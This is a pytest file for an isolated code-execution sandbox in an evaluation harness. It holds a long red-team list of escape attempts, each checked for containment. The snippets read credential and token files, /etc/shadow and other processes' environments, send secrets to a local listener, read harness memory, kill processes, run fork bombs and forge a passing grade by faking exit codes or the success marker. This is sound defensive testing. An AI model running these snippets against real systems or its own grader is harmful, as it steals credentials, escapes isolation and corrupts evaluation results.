"""The isolated sandbox contains a red-team list of attacks, with and without its audit hook.

Every attack is a program that tries something and then asserts that it worked, so a
contained attack never scores ``passed``. Around each run the test also checks the effects:
the secrets (in this process's environment and in a fake ``$HOME``: ``~/.netrc``,
``~/.cache/huggingface/token``) reach neither the listener on 127.0.0.1 nor the result; no
file in the watched directory appears, disappears or changes; this process and a sibling
process survive; and no process of the run (marked, or descended from this test) outlives
it. With the hook off (``_AUDIT_HOOK = False``) the same list shows that the OS layer alone
is the boundary.
"""

from __future__ import annotations

import os
import secrets
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from evals import sandbox
from evals.sandbox import run_code

_RUNNER = sandbox._RUNNER

REPO = Path(__file__).resolve().parents[2]
SECRET = "mergelab-secret-" + secrets.token_hex(8)
SECRET_BYTES = SECRET.encode()  # process_vm_readv's target: its data starts 32 bytes in
PREFIX = "mergelab-secret-"

# Finds the audit hook the way the red team did (gc + in-place default edits), then goes on
# as if it were gone; harmless when gc is blocked or the hook holds nothing mutable.
UNHOOK = (
    "import gc\n"
    "try:\n"
    "    for o in gc.get_objects():\n"
    "        if getattr(o, '__name__', '') == '_mergelab_sandbox_hook':\n"
    "            (o.__kwdefaults__ or {}).clear()\n"
    "except Exception:\n"
    "    pass\n"
)
LIBC = "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"
SEND = (
    "import socket\n"
    "s = socket.create_connection(('127.0.0.1', PORT), timeout=1)\n"
    "s.sendall(data.encode() if isinstance(data, str) else data)\n"
    "s.close()\n"
)

# (name, solution, hidden tests); the placeholders are filled in by the fixture.
ATTACKS: list[tuple[str, str, str]] = [
    # the red team's findings
    (
        "gc-kwdefaults-shell-as-root",
        UNHOOK + "import subprocess\n"
        "out = subprocess.run(['sh', '-c', 'id -u'], capture_output=True).stdout\n"
        "assert out.strip() == b'0'\n",
        "",
    ),
    (
        "gc-kwdefaults-setns-exfiltrate",
        UNHOOK + LIBC + "import os\n"
        "fd = os.open('/proc/' + str(os.getppid()) + '/ns/net', os.O_RDONLY)\n"
        "assert libc.setns(fd, 0) == 0\n"
        "data = open('/proc/' + str(os.getppid()) + '/environ').read()\n" + SEND,
        "",
    ),
    (
        "gc-kwdefaults-setsid-survivor",
        UNHOOK + "import os, time\n"
        "if os.fork() == 0:\n    os.setsid()\n    time.sleep(30)\n"
        "assert False, 'forked'\n",
        "",
    ),
    (
        "pidfd-kill-parent",
        "import os, signal\n"
        "signal.pidfd_send_signal(os.pidfd_open(os.getppid()), 9)\nassert False\n",
        "",
    ),
    (
        "pidfd-kill-pid-1",
        "import os, signal\nsignal.pidfd_send_signal(os.pidfd_open(1), 9)\nassert False\n",
        "",
    ),
    (
        "main-paths-clear-rename",
        "import __main__, os\n"
        "getattr(__main__, '_PATHS', {}).clear()\n"
        "os.rename('VICTIM/keep.txt', 'VICTIM/moved.txt')\n"
        "assert os.path.exists('VICTIM/moved.txt')\n",
        "",
    ),
    (
        "main-paths-clear-remove",
        "import __main__, os\n"
        "getattr(__main__, '_PATHS', {}).clear()\nos.remove('VICTIM/keep.txt')\n"
        "assert not os.path.exists('VICTIM/keep.txt')\n",
        "",
    ),
    (
        "str-subclass-path",
        "class P(str):\n"
        "    def startswith(self, *a):\n        return True\n"
        "    def split(self, *a):\n        return ['tmp']\n"
        "open(P('VICTIM/pwned'), 'w').write('x')\n"
        "assert open('VICTIM/pwned').read() == 'x'\n",
        "",
    ),
    (
        "proc-parent-environ",
        "import os\n"
        "data = open('/proc/%d/environ' % os.getppid(), 'rb').read()\n"
        "assert b'PREFIX' in data\n",
        "",
    ),
    (
        "proc-harness-environ",
        "data = open('/proc/HARNESS/environ', 'rb').read()\nassert b'PREFIX' in data\n",
        "",
    ),
    (
        "proc-1-environ",
        "data = open('/proc/1/environ', 'rb').read()\nassert b'PREFIX' in data\n",
        "",
    ),
    ("netrc", "data = open('HOMEDIR/.netrc').read()\nassert 'PREFIX' in data\n", ""),
    (
        "hf-token-file",
        "import os\n"
        "data = open(os.path.expanduser('~/.cache/huggingface/token')).read()\n"
        "assert 'PREFIX' in data\n",
        "",
    ),
    (
        "hf-token-file-by-path",
        "data = open('HOMEDIR/.cache/huggingface/token').read()\nassert 'PREFIX' in data\n",
        "",
    ),
    (
        "forge-nonce-ok-mark",
        "import __main__, os, sys\n"
        "sys.stdout.write('\\n@@MERGELAB_SANDBOX_OK@@' + getattr(__main__, '_nonce', '') + '\\n')\n"
        "sys.stdout.flush()\nos._exit(0)\n",
        "assert False\n",
    ),
    ("forge-os-exit-0", "import os\nos._exit(0)\n", "assert False\n"),
    ("forge-sys-exit-0", "import sys\nsys.exit(0)\n", "assert False\n"),
    ("forge-exit-builtin", "exit()\n", "assert False\n"),
    ("forge-quit-builtin", "quit(0)\n", "assert False\n"),
    ("forge-exit-during-tests", "def f():\n    raise SystemExit(0)\n", "f()\nassert False\n"),
    ("forge-raise-systemexit-single", "raise SystemExit\nassert False\n", ""),
    (
        "forge-patch-compile",
        "import builtins\n"
        "builtins.compile = lambda *a, **k: None\nbuiltins.exec = lambda *a, **k: None\n",
        "assert 1 == 2\n",
    ),
    ("setuid-root", "import os\nos.setuid(0)\nassert False\n", ""),
    # processes
    ("fork-bomb", "import os\nwhile True:\n    os.fork()\n", ""),
    (
        "fork-bomb-unhooked",
        UNHOOK + "import os\nn = 0\nwhile n < 500:\n    os.fork()\n    n += 1\nassert False\n",
        "",
    ),
    (
        "thread-bomb",
        "import threading, time\n"
        "for _ in range(200):\n    threading.Thread(target=time.sleep, args=(30,)).start()\n"
        "assert False\n",
        "",
    ),
    (
        "subprocess-shell",
        "import subprocess\nassert subprocess.run(['sh', '-c', 'true']).returncode == 0\n",
        "",
    ),
    ("os-system", "import os\nassert os.system('true') == 0\n", ""),
    ("posix-spawn", "import os\nos.posix_spawn('/bin/sh', ['sh'], {})\n", ""),
    ("execv", "import os, sys\nos.execv(sys.executable, ['x', '-c', 'pass'])\n", ""),
    ("posixsubprocess-direct", "import _posixsubprocess\nassert False\n", ""),
    (
        "multiprocessing",
        # a process started inside the sandbox is not an escape by itself (RLIMIT_NPROC lets
        # threads, and so a few processes, start): it must not outlive the run
        "import multiprocessing, time\n"
        "multiprocessing.Process(target=time.sleep, args=(30,)).start()\nassert False\n",
        "",
    ),
    (
        "pty-fork",
        "import pty, time\nif pty.fork()[0] == 0:\n    time.sleep(30)\nassert False, 'forked'\n",
        "",
    ),
    (
        "setsid-fork-orphan",
        "import os, time\npid = os.fork()\nif pid == 0:\n    os.setsid()\n    time.sleep(30)\n"
        "assert False, 'forked'\n",
        "",
    ),
    (
        "double-fork-daemon",
        UNHOOK + "import os, time\n"
        "if os.fork() == 0:\n    if os.fork() == 0:\n        os.setsid()\n        time.sleep(30)\n"
        "    os._exit(0)\nassert False\n",
        "",
    ),
    ("kill-sibling", "import os\nos.kill(SIBLING, 9)\n", ""),
    ("kill-all", "import os\nos.kill(-1, 9)\n", ""),
    (
        "pidfd-sibling",
        "import os, signal\nsignal.pidfd_send_signal(os.pidfd_open(SIBLING), 9)\n",
        "",
    ),
    ("proc-sibling-visible", "import os\nassert os.path.exists('/proc/SIBLING')\n", ""),
    # resources
    ("memory-bytearray", "x = bytearray(10 ** 10)\nassert False\n", ""),
    ("memory-list", "x = []\nwhile True:\n    x.append(' ' * 10 ** 6)\n", ""),
    ("memory-mmap", "import mmap\nm = mmap.mmap(-1, 10 ** 10)\nm[-1] = 1\n", ""),
    (
        "disk-fill",
        "n = 0\nwhile True:\n    open('f%d' % n, 'wb').write(b'x' * 1000000)\n    n += 1\n",
        "",
    ),
    ("disk-fill-dev-shm", "open('/dev/shm/x', 'wb').write(b'x' * 1000)\n", ""),
    ("huge-single-file", "open('big', 'wb').write(b'x' * (200 << 20))\nassert False\n", ""),
    ("many-open-files", "fs = [open('/dev/null') for _ in range(100000)]\nassert False\n", ""),
    ("setrlimit-raise", "import resource\nresource.setrlimit(resource.RLIMIT_CPU, (-1, -1))\n", ""),
    ("prlimit-raise", "import resource\nresource.prlimit(0, resource.RLIMIT_AS, (-1, -1))\n", ""),
    ("sleep-past-wall-clock", "import time\ntime.sleep(60)\n", ""),
    (
        "ignore-sigterm-spin",
        "import signal\nsignal.signal(signal.SIGTERM, signal.SIG_IGN)\nwhile True:\n    pass\n",
        "",
    ),
    (
        "ignore-sigxcpu-spin",
        "import signal\nsignal.signal(signal.SIGXCPU, signal.SIG_IGN)\nwhile True:\n    pass\n",
        "",
    ),
    # network
    ("connect-local-listener", "data = 'hi'\n" + SEND, ""),
    ("connect-listener-unhooked", UNHOOK + "data = 'hi'\n" + SEND, ""),
    (
        "raw-socket-module",
        "import _socket\ns = _socket.socket()\ns.connect(('127.0.0.1', PORT))\nassert False\n",
        "",
    ),
    (
        "udp-sendto",
        "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        "s.sendto(b'x', ('127.0.0.1', PORT))\nassert False\n",
        "",
    ),
    ("dns-lookup", "import socket\nsocket.getaddrinfo('example.com', 80)\n", ""),
    (
        "urllib",
        "import urllib.request\nurllib.request.urlopen('http://127.0.0.1:PORT', timeout=1)\n",
        "",
    ),
    ("network-interfaces", "import socket\nassert len(socket.if_nameindex()) > 1\n", ""),
    (
        "unix-socket-host",
        "import socket, glob\n"
        "paths = glob.glob('/run/*.sock') + glob.glob('/var/run/*/*.sock')\nassert paths\n",
        "",
    ),
    # host files
    ("etc-shadow", "assert open('/etc/shadow').read()\n", ""),
    ("etc-passwd", "assert 'root' in open('/etc/passwd').read()\n", ""),
    ("repo-readme", "assert open('REPO/README.md').read()\n", ""),
    (
        "list-host-homes",
        "import os\nassert any(os.path.exists(p) for p in ('HOMEDIR', '/home', '/root/.cache'))\n",
        "",
    ),
    (
        "site-packages",
        "import os\n"
        "p = os.path.join(os.path.dirname(os.__file__), 'site-packages')\n"
        "assert os.listdir(p)\n",
        "",
    ),
    ("proc-self-root-escape", "assert open('/proc/self/root/etc/shadow').read()\n", ""),
    ("proc-1-root-escape", "import os\nassert 'work' in os.listdir('/proc/1/root/')\n", ""),
    ("sys-class-net", "import os\nassert os.listdir('/sys/class/net')\n", ""),
    # writes outside
    (
        "write-victim",
        "open('VICTIM/pwned', 'w').write('x')\nassert open('VICTIM/pwned').read() == 'x'\n",
        "",
    ),
    ("write-root-dir", "open('/pwned', 'w').write('x')\n", ""),
    ("write-usr-lib", "open('/usr/lib/pwned', 'w').write('x')\n", ""),
    (
        "write-stdlib",
        "import os\nopen(os.path.join(os.path.dirname(os.__file__), 'pwned.py'), 'w').write('x')\n",
        "",
    ),
    ("chdir-root-write", "import os\nos.chdir('/')\nopen('pwned', 'w').write('x')\n", ""),
    (
        "os-open-dir-fd",
        "import os\nfd = os.open('/', os.O_RDONLY)\n"
        "os.open('pwned', os.O_WRONLY | os.O_CREAT, dir_fd=fd)\n",
        "",
    ),
    (
        "remove-dir-fd",
        "import os\nfd = os.open('VICTIM', os.O_RDONLY)\n"
        "os.remove('keep.txt', dir_fd=fd)\nassert False\n",
        "",
    ),
    ("rmtree-victim", "import shutil\nshutil.rmtree('VICTIM')\nassert False\n", ""),
    ("chmod-victim", "import os\nos.chmod('VICTIM/keep.txt', 0o777)\n", ""),
    ("utime-victim", "import os\nos.utime('VICTIM/keep.txt', (0, 0))\n", ""),
    ("truncate-victim", "import os\nos.truncate('VICTIM/keep.txt', 0)\n", ""),
    ("mkfifo-victim", "import os\nos.mkfifo('VICTIM/fifo')\n", ""),
    (
        "symlink-to-victim",
        "import os\nos.symlink('VICTIM/keep.txt', 'link')\nopen('link', 'w').write('pwned')\n",
        "",
    ),
    ("hardlink-stdlib", "import os\nos.link(os.__file__, 'l')\nopen('l', 'a').write('x')\n", ""),
    ("tempfile-dir-victim", "import tempfile\ntempfile.mkstemp(dir='VICTIM')\n", ""),
    (
        "sqlite-file-victim",
        "import sqlite3\nsqlite3.connect('VICTIM/db.sqlite').execute('create table t(x)')\n",
        "",
    ),
    (
        "sqlite-uri-victim",
        "import sqlite3\n"
        "sqlite3.connect('file:VICTIM/db.sqlite', uri=True).execute('create table t(x)')\n",
        "",
    ),
    (
        "fspath-toctou",
        "class P:\n    n = 0\n    def __fspath__(self):\n"
        "        P.n += 1\n        return 'inside' if P.n == 1 else 'VICTIM/pwned'\n"
        "open(P(), 'w').write('x')\nassert open('VICTIM/pwned').read() == 'x'\n",
        "",
    ),
    (
        "bytes-subclass-path",
        "class B(bytes):\n    def startswith(self, *a):\n"
        "        return True\nopen(B(b'VICTIM/pwned'), 'w').write('x')\n"
        "assert open('VICTIM/pwned').read() == 'x'\n",
        "",
    ),
    ("proc-self-mem-write", "f = open('/proc/self/mem', 'r+b')\nassert False\n", ""),
    # native code, tracing, the hook
    ("ctypes-system", LIBC + "assert libc.system(b'true') == 0\n", ""),
    ("ctypes-import-private", "import _ctypes\nassert False\n", ""),
    (
        "importlib-ctypes-system",
        "import importlib\nlibc = importlib.import_module('ctypes').CDLL(None)\n"
        "assert libc.system(b'true') == 0\n",
        "",
    ),
    ("ptrace-harness", UNHOOK + LIBC + "assert libc.ptrace(16, HARNESS, 0, 0) == 0\n", ""),
    (
        "process-vm-readv-harness",
        UNHOOK + LIBC + "class V(ctypes.Structure):\n"
        "    _fields_ = [('base', ctypes.c_void_p), ('len', ctypes.c_size_t)]\n"
        "buf = ctypes.create_string_buffer(64)\n"
        "mine, theirs = V(ctypes.cast(buf, ctypes.c_void_p), 64), V(ADDRESS, 64)\n"
        "libc.process_vm_readv(HARNESS, ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0)\n"
        "assert b'PREFIX' in buf.raw\n",
        "",
    ),
    ("proc-harness-mem", "open('/proc/HARNESS/mem', 'rb').read(1)\n", ""),
    ("add-audit-hook", "import sys\nsys.addaudithook(lambda *a: None)\nassert False\n", ""),
    (
        "replace-hook-defaults",
        "import gc\nhook = [o for o in gc.get_objects()\n"
        "        if getattr(o, '__name__', '') == '_mergelab_sandbox_hook'][0]\n"
        "hook.__defaults__ = None\nassert False\n",
        "",
    ),
    ("environ-secrets", "import os\nassert any('PREFIX' in v for v in os.environ.values())\n", ""),
    ("proc-self-environ", "assert b'PREFIX' in open('/proc/self/environ', 'rb').read()\n", ""),
    ("uid-is-root", "import os\nassert os.getuid() == 0 or os.geteuid() == 0\n", ""),
    (
        "capabilities",
        "line = [l for l in open('/proc/self/status') if l.startswith('CapEff')]\n"
        "assert int(line[0].split()[1], 16) != 0\n",
        "",
    ),
]


@pytest.fixture(scope="module")
def world(tmp_path_factory) -> Iterator[dict]:
    """Secrets in the environment and a fake HOME, a victim directory, a listener on
    127.0.0.1 and a sibling process."""
    home = tmp_path_factory.mktemp("home")
    (home / ".netrc").write_text(f"machine huggingface.co login u password {SECRET}\n")
    (home / ".cache" / "huggingface").mkdir(parents=True)
    (home / ".cache" / "huggingface" / "token").write_text(SECRET)
    victim = tmp_path_factory.mktemp("victim")
    (victim / "keep.txt").write_text("precious")
    server = socket.create_server(("127.0.0.1", 0))
    received: list[bytes] = []

    def listen() -> None:
        while True:
            try:
                conn, _ = server.accept()
            except OSError:
                return
            with conn:
                conn.settimeout(2)
                received.append(b"<connected>")
                try:
                    while chunk := conn.recv(65536):
                        received.append(chunk)
                except OSError:
                    pass

    threading.Thread(target=listen, daemon=True).start()
    sibling = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)"])
    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("HF_TOKEN", SECRET)
        mp.setenv("WANDB_API_KEY", SECRET)
        mp.setenv("HOME", str(home))
        yield {
            "home": home,
            "victim": victim,
            "port": server.getsockname()[1],
            "received": received,
            "sibling": sibling,
        }
    sibling.kill()
    sibling.wait()
    server.close()


def _processes() -> dict[int, tuple[int, str]]:
    """Every live process: pid -> (parent pid, state); zombies are left out (dead already:
    they wait only for their parent to reap them)."""
    procs = {}
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                with open(f"/proc/{entry}/stat") as fh:
                    state, ppid = fh.read().rsplit(")", 1)[1].split()[:2]
            except OSError:
                continue
            if state not in ("Z", "X"):
                procs[int(entry)] = (int(ppid), state)
    return procs


def _carries(pid: int, marker: bytes) -> bool:
    for name in ("cmdline", "environ"):
        try:
            with open(f"/proc/{pid}/{name}", "rb") as fh:
                if marker in fh.read():
                    return True
        except OSError:
            pass
    return False


def _ours(before: set[int], marker: bytes) -> set[int]:
    """This run's live processes: those carrying its marker (the runner's command line,
    which forks keep; the environment, which execs inherit), and any process new since
    ``before`` that descends from this test process (a sandbox's pid 1 reaps its orphans).
    Other tests' sandboxes (pytest-xdist) carry other markers and descend from other
    workers; the sandbox's uid is not assumed, so this also counts for a non-root caller."""
    procs = _processes()
    me, found = os.getpid(), set()
    for pid in procs:
        if pid == me:
            continue
        if _carries(pid, marker):
            found.add(pid)
            continue
        if pid in before:
            continue
        seen, p = set(), procs[pid][0]
        while p > 1 and p in procs and p not in seen:
            if p == me:
                found.add(pid)
                break
            seen.add(p)
            p = procs[p][0]
    return found


def _outlived(before: set[int], marker: bytes) -> set[int]:
    """This run's processes still alive after a short grace period."""
    deadline = time.monotonic() + 2.0
    while (left := _ours(before, marker)) and time.monotonic() < deadline:
        time.sleep(0.05)
    return left


def _marked_runner(monkeypatch) -> bytes:
    """Puts a fresh marker in the runner's code (so its command line) and environment."""
    marker = "mergelab-run-" + secrets.token_hex(8)
    monkeypatch.setattr(
        sandbox,
        "_RUNNER",
        f"# {marker}\nimport os as _o\n_o.environ['MERGELAB_RUN'] = {marker!r}\ndel _o\n" + _RUNNER,
    )
    return marker.encode()


def _snapshot(root: Path) -> dict[str, bytes]:
    return {
        str(p.relative_to(root)): p.read_bytes() if p.is_file() else b"<dir>"
        for p in sorted(root.rglob("*"))
    }


def _fill(code: str, w: dict) -> str:
    for key, value in (
        ("PORT", w["port"]),
        ("VICTIM", w["victim"]),
        ("HOMEDIR", w["home"]),
        ("REPO", REPO),
        ("SIBLING", w["sibling"].pid),
        ("PREFIX", PREFIX),
        ("HARNESS", os.getpid()),
        ("ADDRESS", id(SECRET_BYTES) + 32),
    ):
        code = code.replace(key, str(value))
    return code


def test_the_attack_list_is_long_and_distinct():
    names = [a[0] for a in ATTACKS]
    assert len(names) == len(set(names)) >= 64
    assert len({a[1] + a[2] for a in ATTACKS}) == len(ATTACKS)


@pytest.mark.parametrize("hook", [True, False], ids=["with-hook", "os-layer-only"])
def test_every_attack_is_contained(world, hook, monkeypatch):
    monkeypatch.setattr(sandbox, "_AUDIT_HOOK", hook)
    monkeypatch.setattr(sandbox, "_mode", "isolated")
    escaped = []
    for name, solution, tests in ATTACKS:
        before_files = _snapshot(world["victim"]), _snapshot(world["home"])
        marker = _marked_runner(monkeypatch)
        before_pids = set(_processes())
        res = run_code(_fill(solution, world), _fill(tests, world), timeout_s=1.5, memory_mb=128)
        leftovers = _outlived(before_pids, marker)
        problems = [
            what
            for what, bad in (
                ("passed", res.passed or res.status == "passed"),
                ("secret in the result", PREFIX in res.detail),
                ("secret at the listener", any(PREFIX.encode() in c for c in world["received"])),
                (
                    "files changed",
                    (_snapshot(world["victim"]), _snapshot(world["home"])) != before_files,
                ),
                ("sibling died", world["sibling"].poll() is not None),
                ("processes left", bool(leftovers)),
            )
            if bad
        ]
        if problems:
            escaped.append((name, problems, res))
    assert not escaped, escaped
    assert world["received"] == []  # nothing ever connected to the listener
    assert res.network_isolated
